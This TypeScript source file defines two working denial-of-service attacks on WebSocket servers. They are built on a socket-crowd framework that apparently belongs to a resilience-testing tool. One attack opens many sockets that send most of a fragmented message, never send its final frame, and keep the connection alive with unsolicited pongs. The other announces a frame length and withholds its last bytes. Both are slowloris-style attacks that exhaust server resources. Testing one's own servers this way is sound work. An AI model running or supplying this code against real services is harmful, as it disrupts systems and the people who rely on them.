import type { Socket } from 'node:net'
import type { Attack } from './attack.ts'
import { SocketCrowd } from './attack.ts'
import { frame, openRawWebSocket } from './rawWebSocket.ts'

/** Bytes of a fragment. */
const FRAGMENT = 100_000
/** Milliseconds between pongs that nobody asked for. */
const PONG_PERIOD = 5000

/** Keeps a socket from being idle, for its life. */
function keepAlive(socket: Socket): void {
  const pong = frame(Buffer.alloc(0), { opcode: 'pong' })
  const timer = setInterval(() => socket.write(pong), PONG_PERIOD)
  socket.once('close', () => clearInterval(timer))
}

/**
 * WebSockets that send most of a message and never its end, with pongs that nobody asked for.
 * @param bytes of the message that are sent
 */
export function fragments(sockets: number, bytes: number): Attack {
  const count = Math.floor(bytes / FRAGMENT)
  const message = Buffer.concat(
    Array.from({ length: count }, (_, i) =>
      frame(Buffer.alloc(FRAGMENT, 0x20), { opcode: i === 0 ? 'text' : 'continuation', isLast: false }),
    ),
  )
  return {
    name: `fragments: ${sockets} WebSockets with ${bytes} bytes of a message`,
    start: (target) => {
      const crowd = new SocketCrowd(sockets, target, (localAddress) =>
        openRawWebSocket({ ...target, localAddress }, (socket) => {
          socket.write(message)
          keepAlive(socket)
        }),
      )
      return { summary: () => `${crowd.opened} connections`, stop: () => crowd.stop() }
    },
  }
}

/** Bytes of a frame that never come. */
const LACKING = 10

/** WebSockets that announce one frame and never send its last bytes. */
export function partialFrames(sockets: number, bytes: number): Attack {
  const message = frame(Buffer.alloc(bytes - LACKING, 0x20), { announced: bytes })
  return {
    name: `partial frames: ${sockets} WebSockets with one of ${bytes} bytes`,
    start: (target) => {
      const crowd = new SocketCrowd(sockets, target, (localAddress) =>
        openRawWebSocket({ ...target, localAddress }, (socket) => socket.write(message)),
      )
      return { summary: () => `${crowd.opened} connections`, stop: () => crowd.stop() }
    },
  }
}
